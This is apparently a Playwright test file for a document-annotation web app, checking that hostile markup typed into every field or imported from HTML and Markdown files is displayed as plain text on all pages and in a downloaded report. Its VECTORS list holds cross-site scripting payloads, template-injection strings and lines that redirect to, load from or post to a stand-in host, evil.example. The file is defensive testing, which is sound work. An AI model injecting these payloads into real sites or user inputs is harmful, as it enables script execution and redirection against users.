"""Text that would like to run: whoever reads it anywhere sees letters and nothing else."""

import pytest
from playwright.sync_api import expect

from annotations.models import Document, Role
from tests.browser.desk import claim, enter, expect_saved, panel, save_verdict
from tests.factories import make_member, make_person

PWN = "window.__pwned=1"
VECTORS = (
    f"<script>{PWN}</script>",
    f"</textarea></title></style><script>{PWN}</script>",
    f'"><img src=x onerror="{PWN}">',
    f"'><svg/onload={PWN}>",
    f'" autofocus onfocus="{PWN}" x="',
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f"<details open ontoggle={PWN}>seen",
    f"<a href='javascript:{PWN}'>a harmless link</a>",
    f"[a harmless link](javascript:{PWN})",
    "<base href='https://evil.example/'><img src='https://evil.example/pixel'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/a.css'><style>@import 'https://evil.example/b.css';</style>",
    f"<![CDATA[><img src=x onerror={PWN}>]]> <!--><script>{PWN}</script>--> {{{{ 7|add:7 }}}} {{% now 'Y' %}}",
    "<form id=config action='https://evil.example/'><input name=body></form>"
    "<button hx-get='//evil.example/' hx-trigger=load>",
)
EVERYTHING = "\n".join(VECTORS)
PAGES = (
    "", "claims/1/", "claims/2/similar/", "disagreements/", "history/", "report/", "notes/", "details/", "marking/",
    "readings/", "agreement/", "revisions/", "stale/", "changes/",
)  # fmt: skip
OF_A_REVIEWER = ("", "claims/1/", "marking/", "changes/")


def is_unharmed(page):
    page.wait_for_load_state()
    assert page.evaluate("window.__pwned") is None
    assert page.locator("iframe, base, meta[http-equiv=refresh], [onerror], [onload], [onfocus]").count() == 0
    assert page.locator("a[href^='javascript:'], [href*='evil.example'], [src*='evil.example']").count() == 0


@pytest.fixture
def desk(context, address, project, manager):
    """The manager of a project whose every word is hostile, at work."""
    project.name, project.guidelines = VECTORS[2][:120], EVERYTHING
    project.save()
    return enter(context, address, manager)


@pytest.fixture
def colleague(project, manager):
    """A reviewer with a hostile name."""
    person = make_person(username=VECTORS[2], initials="<b>X")
    person.first_name = VECTORS[3]
    person.save()
    make_member(project=project, person=person, role=Role.REVIEWER)
    return person


def test_hostile_words_stay_words_on_every_page(desk, new_context, address, project, colleague):
    _import(desk)
    document = Document.objects.get()
    _work_on(desk, document)
    other = enter(new_context(), address, colleague)
    other.goto(f"/documents/{document.pk}/claims/1/")
    save_verdict(other, "Refuted", EVERYTHING)
    expect_saved(other)
    is_unharmed(other)
    for page in (desk, other):
        for path in PAGES if page is desk else OF_A_REVIEWER:
            page.goto(f"/documents/{document.pk}/{path}")
            is_unharmed(page)
        page.goto("/")
        is_unharmed(page)
        for path in ("", "sources/"):
            page.goto(f"/projects/{project.slug}/{path}")
            is_unharmed(page)
    _opens_the_downloaded_page(desk, new_context().new_page(), document)


def _opens_the_downloaded_page(desk, reader, document):
    """The file is not under the server's policy, so it has to be harmless by itself."""
    desk.goto(f"/documents/{document.pk}/report/")
    with desk.expect_download() as waiting:
        desk.get_by_role("navigation", name="Downloads").get_by_role("link", name="Web page").click()
    reader.set_content(waiting.value.path().read_text())
    expect(reader.get_by_role("heading", level=1)).to_contain_text(VECTORS[0])
    assert reader.locator("script, style:not(head style)").count() == 0
    assert reader.locator("base, meta[http-equiv=refresh]").count() == 0
    is_unharmed(reader)


def _import(page):
    page.goto("/documents/new/")
    page.get_by_label("Paste the text").fill("\n\n".join(VECTORS))
    page.get_by_label("Title").fill(" ".join(VECTORS)[:300])
    page.get_by_text("Author, publisher, date, language").click()
    page.get_by_label("Author").fill(VECTORS[3])
    page.get_by_label("Publisher").fill(VECTORS[4])
    page.get_by_role("button", name="Show the claims").click()
    expect(page.get_by_text(VECTORS[2], exact=False).first).to_be_visible()
    is_unharmed(page)
    page.get_by_role("button", name="Import").last.click()
    expect(page.get_by_text("Imported:")).to_be_visible()
    is_unharmed(page)


def _work_on(page, document):
    """Fill everything that can be written on a claim, and on the document."""
    page.goto(f"/documents/{document.pk}/claims/1/")
    save_verdict(page, "Supported", EVERYTHING)
    expect_saved(page)
    panel(page).get_by_text("Cite a source").click()
    panel(page).get_by_label("Title of a new source").fill(EVERYTHING[:500])
    panel(page).get_by_role("textbox", name="Author").fill(VECTORS[3])
    panel(page).get_by_role("textbox", name="Publisher").fill(VECTORS[2])
    panel(page).get_by_label("Exact quote").last.fill(EVERYTHING)
    panel(page).get_by_label("Locator").last.fill(VECTORS[4])
    panel(page).get_by_role("button", name="Save citation").click()
    expect_saved(page)
    panel(page).get_by_text("Write a note").click()
    panel(page).get_by_label("Note", exact=True).fill(EVERYTHING)
    panel(page).get_by_role("button", name="Save note").click()
    expect_saved(page)
    is_unharmed(page)


@pytest.mark.parametrize(("name", "media_type"), [("hostile.html", "text/html"), ("hostile.md", "text/markdown")])
def test_hostile_markup_is_imported_without_running(desk, name, media_type):
    body = "\n\n".join(f"<p>A sentence before it. {vector}</p>" for vector in VECTORS)
    text = f"<html><body>{body}</body></html>" if name.endswith("html") else "\n\n".join(VECTORS)
    desk.goto("/documents/new/")
    desk.get_by_label("Or choose a file").set_input_files(
        {"name": name, "mimeType": media_type, "buffer": text.encode()}
    )
    desk.get_by_label("Title").fill("Hostile")
    desk.get_by_role("button", name="Show the claims").click()
    expect(desk.get_by_role("region", name="The claims")).to_be_visible()
    is_unharmed(desk)
    desk.get_by_role("button", name="Import").last.click()
    expect(desk.get_by_text("Imported:")).to_be_visible()
    is_unharmed(desk)
    expect(claim(desk, 1)).to_be_visible()
